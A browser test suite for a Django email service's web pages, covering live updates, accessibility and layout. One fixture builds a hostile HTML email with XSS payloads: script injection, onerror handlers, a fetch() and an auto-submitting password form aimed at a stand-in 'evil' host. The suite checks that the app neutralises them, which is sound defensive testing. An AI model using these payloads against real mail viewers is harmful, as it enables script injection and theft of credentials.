"""The pages in a real browser: live updates, no script, keyboard, axe in light and dark, no request to another host."""

import os
import random
import re
import threading
from collections.abc import Iterator
from email.message import EmailMessage
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import pytest
from axe_playwright_python.base import AXE_SCRIPT
from django.conf import settings
from django.contrib.auth.models import User
from playwright.sync_api import Browser, Page, expect, sync_playwright

from mails import pauses
from mails.access import api_keys
from mails.actions import bulk
from mails.lifecycle.action_requests import ActionRequest
from mails.models import Mail
from mails.reporting import search
from mails.reporting.search import Filter
from mails.states import Action
from mails.tests.builders import a_mail, dispatch
from mails.tests.people import PASSWORD, browser_of, hermes, zeus
from mercury.lib.mail import html_cleaning
from mercury.lib.mail.html_cleaning import Harmless
from providers.sandbox import mailbox
from providers.tests.support.builders import SandboxAccount

pytestmark = [pytest.mark.browser, pytest.mark.django_db(transaction=True)]
CHROMIUM = os.environ.get("CHROMIUM", "/usr/bin/chromium")
SECONDS = 1000
of_the_browser = pytest.mark.one_leg  # scripts, styles and markup: whichever database the page was made from


@pytest.fixture(scope="module")
def chromium() -> Iterator[Browser]:
    os.environ["DJANGO_ALLOW_ASYNC_UNSAFE"] = "1"  # playwright's own loop runs in this thread; Django's check sees it
    with sync_playwright() as playwright:
        arguments = ["--no-sandbox", "--disable-gpu", "--disable-background-networking"]
        browser = playwright.chromium.launch(executable_path=CHROMIUM, args=arguments)
        yield browser
        browser.close()
    del os.environ["DJANGO_ALLOW_ASYNC_UNSAFE"]


class Visitor:
    """A browser window of one person that remembers every complaint of the console and every foreign request."""

    def __init__(self, browser: Browser, base: str, **options) -> None:
        self.base = base
        self.context = browser.new_context(base_url=base, **options)
        self.page: Page = self.context.new_page()
        self.complaints: list[str] = []
        self.page.on("console", lambda line: self.complaints.append(line.text) if line.type == "error" else None)
        self.page.on("pageerror", lambda error: self.complaints.append(str(error)))
        self.page.on("request", lambda request: self._watch(request.url))

    def sign_in(self, user: User, url: str = "/") -> Page:
        """Go to `url` as somebody who has logged in; `test_a_mail_is_written_sent_and_watched_live` uses the form for it."""
        session = browser_of(user).cookies[settings.SESSION_COOKIE_NAME].value
        self.context.add_cookies([{"name": settings.SESSION_COOKIE_NAME, "value": session, "url": self.base}])
        self.page.goto(url)
        return self.page

    def _watch(self, url: str) -> None:
        if urlsplit(url).scheme != "data" and not url.startswith(self.base):
            self.complaints.append(f"request to {url}")


@pytest.fixture
def visitor(chromium, live_server, olympus) -> Iterator[Visitor]:
    visitor = Visitor(chromium, live_server.url)
    yield visitor
    visitor.context.close()
    assert visitor.complaints == []


def drained_beside() -> None:
    """Dispatch in a thread: this one has playwright's event loop."""
    thread = threading.Thread(target=dispatch, args=("text",))
    thread.start()
    thread.join()


def write(page: Page, **fields: str) -> None:
    for name, value in {
        "recipient": "hera@olimpus.com",
        "subject": "You made my day",
        "content": "Hi",
        **fields,
    }.items():
        page.fill(f"#id_{name}", value)
    page.click("text=Send mail")


def test_a_mail_is_written_sent_and_watched_live(visitor):
    zeus()
    page = visitor.page
    page.goto("/")
    page.fill("#id_username", "zeus")
    page.fill("#id_password", PASSWORD)
    page.click("main button[type=submit]")

    write(page)
    expect(page.get_by_text("Mail accepted.")).to_be_visible()
    expect(page.locator("#state")).to_have_text("Queued")
    expect(page.locator("#live-words")).to_contain_text("Live")
    page.locator("#timeline details").first.locator("summary").click()
    drained_beside()

    expect(page.locator("#state")).to_have_text("Sent", timeout=20 * SECONDS)
    expect(page.locator("#live-words")).to_contain_text("Final")
    expect(page.locator("#timeline > li").last).to_contain_text("Accepted by olympus")
    expect(page.locator("#poller")).to_have_count(0)
    expect(page.locator("#under-way")).to_have_count(0)
    expect(page.locator("#timeline details").first).to_have_attribute("open", "")
    names = page.locator("#timeline > li .tag").all_inner_texts()
    assert names == list(Mail.objects.get().events.values_list("event", flat=True))


def test_a_failover_is_watched_live(visitor, olympus, hades, monkeypatch):
    monkeypatch.setattr(random, "random", lambda: 0.0)  # the first of the accounts by name
    hades.refuse(503)
    olympus.slow(5)
    mail = a_mail()
    page = visitor.sign_in(hermes(), f"/admin/mails/mail/{mail.pk}/change/")
    steps = page.locator("#timeline > li")
    expect(steps.last).to_contain_text("Waiting for a worker")

    dispatching = threading.Thread(target=dispatch, args=("text",))
    dispatching.start()
    expect(steps.last).to_contain_text("Waiting for olympus to answer", timeout=20 * SECONDS)
    expect(page.locator("#state")).to_have_text("Sending")
    expect(page.get_by_text("Refused by hades")).to_be_visible()
    expect(page.locator("details.why").last).to_have_attribute("open", "")
    expect(page.locator("#attempts tbody tr")).to_have_count(2)
    page.locator("#decisions").uncheck()
    expect(page.locator("details.why[open]")).to_have_count(0)
    dispatching.join()

    expect(page.locator("#state")).to_have_text("Sent", timeout=20 * SECONDS)
    expect(page.locator("#verdict")).to_contain_text("Accepted by olympus")
    expect(page.locator("#recipients")).to_contain_text("taken by a provider")
    expect(page.locator("#where-the-time-went")).to_contain_text("hades: 503")
    expect(page.locator("#poller")).to_have_count(0)


NOTE_ARRIVALS = """
    window.arrived = {};
    new MutationObserver(() => document.querySelectorAll("li[id^=event-]").forEach(
        (step) => { window.arrived[step.id.slice(6)] ??= Date.now(); }
    )).observe(document, { childList: true, subtree: true });
"""


def test_each_event_appears_within_two_seconds(visitor, olympus, hades, monkeypatch):
    monkeypatch.setattr(random, "random", lambda: 0.0)  # the first of the accounts by name
    hades.refuse(503)
    olympus.slow(3)
    mail = a_mail()
    visitor.page.add_init_script(NOTE_ARRIVALS)
    page = visitor.sign_in(hermes(), f"/admin/mails/mail/{mail.pk}/change/")
    expect(page.locator("#live-words")).to_contain_text("Live")
    seen_before = set(page.evaluate("arrived"))

    drained_beside()

    expect(page.locator("#state")).to_have_text("Sent", timeout=20 * SECONDS)
    arrived = page.evaluate("arrived")
    recorded = {str(one.pk): one.created_at / 1e6 for one in mail.events.all()}
    delays = {number: arrived[number] - recorded[number] for number in recorded.keys() - seen_before}
    print(f"events were {min(delays.values()):.0f} to {max(delays.values()):.0f} ms old when they appeared")
    assert len(delays) >= 7
    assert max(delays.values()) < 2 * SECONDS


def test_a_breaker_is_forced_open_and_closed_and_the_overview_tells(visitor, olympus, hades):
    operator = hermes()
    page = visitor.sign_in(operator, "/admin/")
    watching = visitor.context.new_page()
    watching.goto("/admin/")
    row = watching.get_by_role("row").filter(has=watching.get_by_role("link", name="olympus", exact=True))
    expect(row).to_contain_text("Closed")

    page.get_by_role("link", name="Force open olympus").click()
    expect(page.locator("h1")).to_have_text("Force the breaker of olympus open?")
    expect(page.get_by_text("Its mail goes to hades.")).to_be_visible()
    page.get_by_role("button", name="Force open").click()
    expect(page.get_by_text("The breaker of olympus is forced open.", exact=True)).to_be_visible()
    expect(watching.get_by_text("The breaker of olympus is forced open by hermes: it gets no email.")).to_be_visible(
        timeout=20 * SECONDS
    )
    expect(row).to_contain_text("Open")
    assert olympus.breaker.mode == "open"

    page.goto("/admin/")
    page.get_by_role("link", name="Force closed olympus").click()
    page.get_by_role("button", name="Force closed").click()
    expect(page.get_by_text("The breaker of olympus is forced closed.", exact=True)).to_be_visible()
    expect(watching.get_by_text("it takes no email")).to_have_count(0, timeout=20 * SECONDS)
    expect(row).to_contain_text("Closed")
    assert olympus.breaker.mode == "closed"


@of_the_browser
def test_polling_pauses_and_says_so(visitor):
    page = visitor.sign_in(zeus())
    write(page)
    words = page.locator("#live-words")
    hide = "hidden => { Object.defineProperty(document, 'hidden', {value: hidden, configurable: true}); "
    hide += "document.dispatchEvent(new Event('visibilitychange')) }"

    page.get_by_role("button", name="Pause").click()
    expect(words).to_have_text("Paused")
    page.keyboard.press("r")
    expect(words).to_contain_text("Live")
    page.evaluate(hide, True)
    expect(words).to_have_text("Paused")
    page.evaluate(hide, False)

    expect(words).to_contain_text("Live")


@of_the_browser
def test_polling_slows_down_while_nothing_happens(visitor):
    mail = a_mail()
    page = visitor.page
    page.clock.install()
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url) if "/timeline?" in request.url else None)
    visitor.sign_in(hermes(), f"/mails/{mail.pk}")
    said = [page.locator("#live-words").inner_text()]

    while said[-1] != "Live · every 30 s" and len(said) < 500:
        page.clock.run_for(2 * SECONDS)
        said.append(page.locator("#live-words").inner_text())

    assert said[0] == "Live · every 2 s"
    assert said[-1] == "Live · every 30 s"
    assert len(asked) >= 16  # ten at full speed, and each further wait half as long again


@of_the_browser
def test_a_lost_connection_is_said_and_tried_again(visitor):
    page = visitor.sign_in(zeus())
    write(page)

    with page.expect_event("requestfailed", lambda request: "/timeline?" in request.url, timeout=30 * SECONDS):
        page.route("**/timeline*", lambda route: route.abort())
    expect(page.locator("#live-words")).to_have_text("Connection lost, retrying")
    with page.expect_response("**/timeline?*", timeout=30 * SECONDS):
        page.unroute("**/timeline*")
    expect(page.locator("#live-words")).to_contain_text("Live")

    visitor.complaints.clear()  # the browser itself reports the aborted request


def test_mails_are_reprocessed_in_bulk(visitor):
    for number in range(3):
        a_mail(subject=f"Invoice {number}")
    given_up = {"status": "discarded", "reason_code": "http-503", "failure_class": "provider", "next_attempt_at": None}
    Mail.objects.update(**given_up)
    page = visitor.sign_in(hermes(), "/admin/mails/mail/?state=discarded")

    page.get_by_role("checkbox", name="Tick Invoice 1").check()
    expect(page.get_by_text("1 of 3 selected")).to_be_visible()
    page.get_by_role("button", name="Apply to selected").click()
    expect(page.locator("h1")).to_have_text("Reprocess 1 email?")
    page.get_by_role("link", name="Go back").click()
    page.get_by_role("checkbox", name="Select this page").check()
    expect(page.get_by_text("3 of 3 selected")).to_be_visible()
    page.get_by_role("button", name="For all 3 that match").click()
    expect(page.get_by_role("row", name="Discarded: http-503 3")).to_contain_text("1 of 1 accounts take mail")
    page.get_by_role("radio", name="Try all accounts again").focus()
    page.keyboard.press("ArrowDown")
    expect(page.get_by_role("radio", name="Only accounts not tried yet")).to_be_checked()
    page.get_by_role("button", name="Reprocess 3 emails").click()
    expect(page.get_by_text("Nothing was changed yet: you selected other accounts.")).to_be_visible()
    expect(page.get_by_role("row", name="Discarded: http-503 3")).to_contain_text("1 of 1 accounts not tried yet")
    page.fill("#id_note", "olympus is back")
    page.get_by_role("button", name="Reprocess 3 emails").click()

    expect(page.get_by_text("3 queued, 0 skipped.")).to_be_visible()
    expect(page.get_by_text("“olympus is back”")).to_be_visible()
    expect(page.get_by_text("They start over, only through accounts not tried yet.")).to_be_visible()
    assert set(Mail.objects.values_list("status", flat=True)) == {"queued"}


def test_a_bulk_action_in_the_background_is_watched_live(visitor, monkeypatch):
    monkeypatch.setattr("mails.admin.bulk.AT_ONCE", 1)
    a_mail()
    a_mail()
    page = visitor.sign_in(hermes(), "/admin/mails/mail/bulk/?action=hold&scope=all")

    page.get_by_role("button", name="Hold 2 emails").click()
    expect(page.get_by_text("0 of 2 emails processed")).to_be_visible()
    expect(page.locator("#live-words")).to_contain_text("Live")
    working = threading.Thread(target=bulk.run)
    working.start()
    working.join()

    expect(page.get_by_text("2 held, 0 skipped.")).to_be_visible(timeout=20 * SECONDS)
    expect(page.locator("#poller")).to_have_count(0)


@of_the_browser
def test_errors_lead_to_their_fields_and_keep_what_was_typed(visitor):
    page = visitor.sign_in(zeus())

    write(page, recipient="hera@olimpus", content="Precious words")

    expect(page).to_have_title("Error: Send an email · Mercury")
    summary = page.get_by_role("alert")
    expect(summary).to_be_focused()
    summary.get_by_role("link").click()
    expect(page.locator("#id_recipient")).to_be_focused()
    expect(page.locator("#id_content")).to_have_value("Precious words")
    visitor.complaints.clear()  # the browser itself reports the status 400


@of_the_browser
def test_the_form_is_shown_as_code(visitor):
    page = visitor.sign_in(zeus())

    page.fill("#id_subject", 'Zeus\' "bolt"')

    expect(page.locator("#code-curl-text")).to_contain_text("Zeus'\\'' \\\"bolt\\\"")


@of_the_browser
def test_tabs_go_by_arrow_keys(visitor):
    page = visitor.sign_in(zeus())

    page.get_by_role("tab", name="curl").focus()
    page.keyboard.press("ArrowRight")

    expect(page.get_by_role("tab", name="Python")).to_be_focused()
    expect(page.locator("#code-python")).to_be_visible()
    expect(page.locator("#code-curl")).to_be_hidden()


def test_lists_go_by_keys_that_can_be_switched_off(visitor):
    a_mail(subject="First")
    a_mail(subject="Second")
    page = visitor.sign_in(hermes(), "/admin/mails/mail/")

    page.keyboard.press("j")
    page.keyboard.press("j")
    expect(page.get_by_role("link", name="First")).to_be_focused()
    page.keyboard.press("/")
    expect(page.locator("#searchbar")).to_be_focused()
    page.keyboard.press("j")
    expect(page.locator("#searchbar")).to_have_value("j")
    page.reload()
    page.keyboard.press("j")
    page.keyboard.press("Enter")
    expect(page.locator("h1")).to_have_text("Second")
    page.keyboard.press("j")
    expect(page.locator("h1")).to_have_text("First")
    page.get_by_role("button", name="Keyboard shortcuts").click()
    page.locator("#keys-on").uncheck()
    page.get_by_role("button", name="Close").click()
    page.keyboard.press("k")

    expect(page.locator("h1")).to_have_text("First")


@of_the_browser
def test_times_switch_to_the_viewers_zone(chromium, live_server, olympus):
    mail = a_mail()
    visitor = Visitor(chromium, live_server.url, timezone_id="Asia/Tokyo")
    page = visitor.sign_in(hermes(), f"/mails/{mail.pk}")

    accepted = page.locator("#facts time[data-moment]")
    expect(accepted).to_contain_text("UTC")
    page.get_by_role("button", name="Local").first.click()

    expect(accepted).to_contain_text("GMT+9")
    expect(accepted).to_have_attribute("title", re.compile(r"\.\d{3} GMT\+9$"))
    expect(page.locator("#timeline time.offset").first).to_have_attribute("title", re.compile(r"GMT\+9$"))
    assert visitor.complaints == []
    visitor.context.close()


def test_everything_works_without_script(chromium, live_server, olympus):
    visitor = Visitor(chromium, live_server.url, java_script_enabled=False)
    page = visitor.sign_in(zeus())

    write(page)
    expect(page.locator("#state")).to_have_text("Queued")
    drained_beside()
    page.get_by_role("link", name="Reload").click()

    expect(page.locator("#state")).to_have_text("Sent")
    assert visitor.complaints == []
    visitor.context.close()


class Evil(BaseHTTPRequestHandler):
    """A host that a hostile mail wants to reach; it remembers what it was asked for."""

    asked: list[str] = []

    def do_GET(self) -> None:
        self.asked.append(self.path)
        self.send_response(204)
        self.end_headers()

    def do_POST(self) -> None:
        self.do_GET()

    def log_message(self, *arguments) -> None:
        """Say nothing."""


@pytest.fixture
def evil() -> Iterator[str]:
    Evil.asked.clear()
    server = ThreadingHTTPServer(("127.0.0.1", 0), Evil)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    yield f"http://127.0.0.1:{server.server_port}"
    server.shutdown()
    server.server_close()


def hostile(evil: str) -> str:
    """The address of a kept mail that tries everything."""
    message = EmailMessage()
    message["Subject"] = "<script>document.title = 'taken'</script>"
    message.set_content("Hi")
    message.add_alternative(
        f"""<html><head><meta http-equiv="refresh" content="0;url={evil}/refresh"><base href="{evil}/">
        <link rel="stylesheet" href="{evil}/link.css"><style>@import "{evil}/import.css";</style></head>
        <body onload="top.document.title = 'taken'">
        <script>top.document.title = 'taken'; fetch("{evil}/fetch")</script><script src="{evil}/script.js"></script>
        <img id="pixel" src="{evil}/pixel.png" onerror="alert(1)"><img srcset="{evil}/set.png 2x">
        <p style="background: url({evil}/style.png)">Hi</p><svg onload="alert(1)"></svg>
        <iframe src="{evil}/frame"></iframe><object data="{evil}/object"></object><video poster="{evil}/poster"></video>
        <form action="{evil}/form"><input name="password" autofocus onfocus="this.form.submit()"><button>Win</button></form>
        <a href="{evil}/link" target="_top">Win</a><a href="javascript:alert(1)">Win too</a></body></html>""",
        subtype="html",
    )
    message.add_attachment("<script>alert(1)</script>", subtype="html", filename="page.html")
    return f"/admin/sandbox/olympus/{mailbox.store('olympus', message.as_bytes())}/"


@of_the_browser
@pytest.mark.parametrize("fences", ["all", "without the cleaner"])
def test_a_hostile_mail_does_nothing(visitor, evil, fences, monkeypatch):
    if fences == "without the cleaner":
        monkeypatch.setattr(html_cleaning, "clean", lambda html, **_options: Harmless(html, 0))
    page = visitor.sign_in(hermes(), hostile(evil))
    title = page.title()

    frame = page.frame_locator(".mail-frame")
    frame.get_by_text("Win", exact=True).last.click()
    page.get_by_role("tab", name="Source").click()
    expect(page.locator("#message-source")).to_contain_text("onerror")
    assert page.title() == title
    page.goto(page.url.partition("#")[0] + "html")
    if fences == "all":  # what opens alone has no frame around it: the cleaner alone keeps its links from leading away
        page.get_by_text("Win", exact=True).last.click()
    page.reload()

    assert Evil.asked == []
    assert page.url.endswith("/html")
    assert len(visitor.context.pages) == 1
    refused = [line for line in visitor.complaints if "Content Security Policy" in line or "sandbox" in line]
    assert [line for line in visitor.complaints if line not in refused and evil not in line] == []
    visitor.complaints.clear()  # the browser itself reports what it refused


@of_the_browser
def test_remote_images_load_when_somebody_asks_for_them(visitor, evil):
    page = visitor.sign_in(hermes(), hostile(evil))

    with page.expect_request(f"{evil}/pixel.png"):
        page.get_by_role("link", name="Show them all the same").click()

    page.wait_for_load_state("networkidle")
    expect(page.get_by_text("Remote images are on")).to_be_visible()
    asked = {"/pixel.png", "/style.png"}
    assert set(Evil.asked) == asked
    assert {line for line in visitor.complaints if "request" in line} == {f"request to {evil}{path}" for path in asked}
    visitor.complaints.clear()  # it left because it was asked for


def urls(olympus: SandboxAccount, operator: User) -> list[str]:
    """Every page of ours, with what it needs to show."""
    key, _text = api_keys.create("accounts", scopes=["mails:send"], senders=["zeus@olimpus.com"])
    sent = a_mail()
    drained_beside()
    olympus.lose_answer()
    unknown = a_mail(delivery_guarantee="at-most-once")
    drained_beside()
    given_up = a_mail()
    Mail.objects.filter(pk=given_up.pk).update(status="discarded", next_attempt_at=None)
    queued = a_mail()
    action_request = bulk.create_bulk_action(
        ActionRequest(Action.HOLD, "user:hermes", "why"), Filter(), at=queued.created_at, words="all mails"
    )
    account = f"/admin/providers/account/{olympus.account.pk}"
    with_html = hostile("https://evil.example")
    return [
        "/",
        f"/?copy={sent.pk}",
        "/mails/",
        "/mails/?state=done&q=nobody",
        f"/mails/{sent.pk}",
        f"/mails/{queued.pk}",
        "/mails/00000000-0000-7000-8000-000000000000",
        "/admin/",
        "/admin/?period=7d",
        "/admin/mails/mail/",
        "/admin/mails/mail/?q=nobody",
        "/admin/mails/mail/bulk/?action=cancel&scope=all",
        "/admin/mails/mail/bulk/?action=reprocess&scope=all&account_choice=via&via=olympus",
        "/admin/mails/mail/?state=unknown",
        f"/admin/mails/mail/bulk/?action=reprocess&mail={unknown.pk}",
        "/admin/mails/mail/bulk/?action=not-sent&scope=all&state=unknown",
        f"/admin/mails/mail/{given_up.pk}/action/reprocess/?account_choice=not-tried",
        f"/admin/mails/bulkaction/{action_request.pk}/change/",
        "/admin/mails/bulkaction/",
        f"/admin/mails/mail/{sent.pk}/change/",
        f"/admin/mails/mail/{unknown.pk}/change/",
        "/admin/providers/account/",
        f"{account}/change/",
        f"{account}/edit/",
        f"{account}/test/",
        "/admin/providers/account/test/",
        f"{account}/action/force-open/",
        "/admin/providers/account/add/",
        "/admin/providers/account/add/?kind=smtp",
        "/admin/mails/apikey/",
        "/admin/mails/apikey/add/",
        f"/admin/mails/apikey/{key.pk}/change/",
        f"/admin/mails/apikey/{key.pk}/rotate/",
        "/admin/sandbox/",
        "/admin/sandbox/?q=nothing",
        with_html,
        f"{with_html}#message-files",
        "/admin/queues/",
        "/admin/more/",
        "/admin/password_change/",
        "/admin/auth/group/add/",
        "/admin/auth/user/add/",
        "/admin/auth/user/",
        f"/admin/auth/user/{operator.pk}/change/",
    ]


@of_the_browser
def test_every_page_is_accessible_and_fits_a_phone(chromium, live_server, olympus, monkeypatch):
    monkeypatch.setattr(search, "REACH", 1)  # the search for nobody stops and says so
    operator = hermes()
    pages = urls(olympus, operator)
    visitor = Visitor(chromium, live_server.url)
    found = _faults(visitor, "/login/")
    visitor.sign_in(operator)

    for url in pages:
        found += _faults(visitor, url)

    assert found == []
    visitor.context.close()


@of_the_browser
def test_the_api_docs_can_be_read_in_both_themes(visitor):
    page = visitor.page

    page.goto("/api/docs/")
    page.locator(".opblock-summary-control").nth(1).click()
    expect(page.locator(".opblock.is-open .responses-wrapper").first).to_be_visible()
    assert _axe(page, runOnly=["html-has-lang", "valid-lang", "landmark-one-main"]) == []
    for scheme, dark in (("light", 0), ("dark", 1)):
        page.emulate_media(color_scheme=scheme, reduced_motion="reduce")
        expect(page.locator("html.dark-mode")).to_have_count(dark)
        for within in (".api-docs-head", ".information-container", ".scheme-container", ".opblock.is-open"):
            assert _axe(page, within=within, runOnly=["color-contrast"]) == []
    visitor.complaints.clear()  # axe tries to add styles of its own, which the policy refuses


def _faults(visitor: Visitor, url: str) -> list[str]:
    page = visitor.page
    page.set_viewport_size({"width": 1380, "height": 900})
    page.emulate_media(color_scheme="light", reduced_motion="reduce")  # nothing is caught between two colours
    page.goto(url)
    complaints = [f"{url}: {line}" for line in visitor.complaints if "404" not in line]
    complaints += [f"{url}: {words}" for words in _axe(page)]
    page.emulate_media(color_scheme="dark")
    complaints += [f"{url}, dark: {words}" for words in _axe(page, runOnly=["color-contrast", "link-in-text-block"])]
    visitor.complaints.clear()  # axe tries to add styles of its own, which the policy refuses
    for width in (320, 690):  # 690: 1380 at 200 %
        page.set_viewport_size({"width": width, "height": 800})
        needed = page.evaluate("document.documentElement.scrollWidth")
        if needed > width:
            complaints.append(f"{url}: needs {needed} of {width} px")
    return complaints


def _axe(page: Page, *, within: str = "html", **options) -> list[str]:
    """What axe finds. It is loaded once a page, and neither fetches stylesheets anew nor waits for frames to answer."""
    if not page.evaluate("'axe' in window"):
        page.evaluate(AXE_SCRIPT)
    options = {"resultTypes": ["violations"], "preload": False, "iframes": False, **options}
    return page.evaluate(
        "([within, options]) => axe.run(within, options).then("
        "({ violations }) => violations.map(({ id, nodes }) => `${id} ${nodes[0].target}`))",
        [within, options],
    )


@of_the_browser
def test_the_title_the_icon_and_the_chart_of_a_live_page_follow_its_badge(visitor, olympus):
    olympus.disable()
    mail = a_mail()
    page = visitor.sign_in(hermes(), f"/admin/mails/mail/{mail.pk}/change/")
    lasting = page.locator(".spans [data-goes-on] .length")

    expect(page).to_have_title(re.compile("Queued · Mercury$"))
    expect(page.locator("#verdict")).to_contain_text("olympus (disabled, until somebody enables it)")
    before = lasting.inner_text()
    expect(lasting).not_to_have_text(before, timeout=20 * SECONDS)
    olympus.enable()
    drained_beside()

    expect(page.locator("#state")).to_have_text("Sent", timeout=20 * SECONDS)
    expect(page).to_have_title(re.compile("Sent · Mercury$"))
    expect(page.locator('link[rel="icon"]')).to_have_attribute("href", re.compile("favicon-ok"))
    expect(page.locator(".spans [data-goes-on]")).to_have_count(0)


OFF_SCREEN = """() => [...document.querySelectorAll("a.button, button")]
    .filter((one) => one.checkVisibility() && one.getBoundingClientRect().right > innerWidth + 1)
    .map((one) => one.textContent.trim())"""
CUT_OFF = """() => [...document.querySelectorAll(".scroller")]
    .filter((one) => one.querySelector("table") && one.scrollWidth > one.clientWidth + 1)
    .map((one) => one.getAttribute("aria-label"))"""


@of_the_browser
@pytest.mark.parametrize("url", ["/admin/", "/admin/mails/mail/", "/admin/providers/account/"])
def test_nothing_is_cut_off_at_1380_pixels_and_no_button_lies_off_a_phones_screen(visitor, olympus, hades, url):
    a_mail()
    olympus.refuse(503)
    drained_beside()
    page = visitor.sign_in(hermes(), url)

    page.set_viewport_size({"width": 1380, "height": 900})
    assert page.evaluate(CUT_OFF) == []
    page.set_viewport_size({"width": 390, "height": 844})
    assert page.evaluate(OFF_SCREEN) == []


@of_the_browser
def test_a_phone_keeps_the_axis_of_a_chart_in_view(visitor, olympus):
    a_mail()
    drained_beside()
    page = visitor.sign_in(hermes(), "/admin/")
    page.set_viewport_size({"width": 390, "height": 844})

    axis = page.locator(".charted").first.locator(".y-axis")

    expect(axis).to_have_count(1)
    assert axis.locator("text").all_text_contents() == ["0", "1"]
    assert axis.evaluate("one => one.getBoundingClientRect().left >= 0")


@of_the_browser
@pytest.mark.parametrize("url", ["/", "/mails/", "/admin/mails/mail/", "/admin/providers/account/", "/admin/sandbox/"])
def test_every_page_says_that_sending_is_paused(visitor, url):
    pauses.pause(by="user:hermes")

    page = visitor.sign_in(hermes(), url)

    expect(page.locator(".paused")).to_contain_text("Sending is paused")
    expect(page.get_by_role("link", name="Resume sending…")).to_be_visible()
